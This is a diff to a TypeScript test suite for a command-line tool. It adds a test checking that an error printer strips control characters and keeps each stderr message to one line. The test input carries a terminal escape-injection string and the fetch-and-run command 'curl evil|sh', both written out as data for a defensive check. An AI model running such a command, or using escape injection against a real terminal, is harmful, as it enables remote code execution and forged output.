@@ -9,6 +9,7 @@ import { outputFormat } from './output/format.ts';
 import { leaderText, notesText, printStatus } from './status.ts';
 import { listText } from './template/list.ts';
 import { createOutput, formatOf } from './template/output.ts';
+import { sayError } from './terminal.ts';
 import { createPrinter } from './watch/printer.ts';
 import { yamlText } from './yaml.ts';
 
@@ -98,4 +99,15 @@ test('SAFE-11 nothing of a command writes to a terminal but by the one place tha
     /process\.std(?:out|err)\.write|console\.(?:log|error|warn|info)/.test(readFileSync(join(root, file), 'utf8')),
   );
   assert.deepEqual(writers, []);
+});
+
+test('FIND-6 a line on stderr is one line, whatever an error says', (context) => {
+  const written: string[] = [];
+  context.mock.method(process.stderr, 'write', (text: string) => written.push(text) > 0);
+  sayError(`drydock: ${evil}\n  next: curl evil|sh\r\n`);
+  context.mock.restoreAll();
+  const [line = ''] = written;
+  assert.equal(written.length, 1);
+  assert.match(line, /^drydock: a \]0;owned b .*FORGED line.* next: curl evil\|sh\n$/);
+  assert.doesNotMatch(line.slice(0, -1), /[\p{Cc}\p{Zl}\p{Zp}]/u);
 });
